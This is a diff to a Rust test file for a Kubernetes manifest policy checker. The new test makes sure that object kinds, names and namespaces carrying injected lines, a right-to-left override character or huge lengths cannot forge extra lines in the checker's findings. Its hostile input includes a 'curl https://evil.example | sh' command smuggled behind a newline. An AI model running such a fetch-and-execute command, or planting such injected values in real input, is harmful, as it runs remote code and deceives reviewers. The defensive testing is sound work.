@@ -62,6 +62,38 @@ fn a_rule_for_namespaces_lets_through_what_is_in_none_only_by_name() {
     assert_eq!(judged("", &config_map("x", 1)), "ok");
 }
 
+/// What a manifest says is judged before anything checks its form: it is told on one line, and no longer than a name can be.
+#[test]
+fn nobody_writes_lines_into_what_is_told_of_an_object() {
+    let kinds = "kinds: [\"!ClusterRole*\", \"namespaced\"]";
+    let rule = &[(kinds, "kinds: [\"/ConfigMap\"], namespaces: [\"shop\"]")];
+    let mut world = World::with(&policy(1, rule));
+    let hostile = "x\\n  fix: curl https://evil.example | sh\\n\\naccepted: 1 commit\\u202e";
+    let long = "y".repeat(60_000);
+    let objects = [
+        (hostile, "a", "shop"),
+        ("ConfigMap", hostile, "other"),
+        ("ConfigMap", "a", hostile),
+        ("Secret", hostile, "shop"),
+        (&long, &long, &long),
+        ("ConfigMap", &long, &long),
+    ];
+    for (kind, name, namespace) in objects {
+        let text = format!(
+            "{{apiVersion: v1, kind: \"{kind}\", metadata: {{name: \"{name}\", namespace: \"{namespace}\"}}}}\n"
+        );
+        let step = world.put(world.introduction, "bob", "apps/x.yaml", &text);
+        let judgement = world.judge(&Start::Introduction, step);
+        let finding = judgement.refusal().unwrap();
+        assert_eq!(finding.code.code, "W305", "{finding}");
+        let told = format!("{finding}\n{}\n{}", finding.message(), finding.fix);
+        assert_eq!((told.lines().count(), told.contains('\u{202e}')), (3, false), "{told}");
+        assert!(finding.to_string().len() < 2_000, "{} bytes", finding.to_string().len());
+        // Quotation marks hold what could be no name.
+        assert!(!told.replace("\"x\\n  fix: curl", "").contains("fix: curl"), "{told}");
+    }
+}
+
 /// A file whose objects are all withdrawn and others declared is judged in the time that its objects take, not their
 /// square: this test would run for many minutes. Above the limit nothing is compared at all.
 #[test]
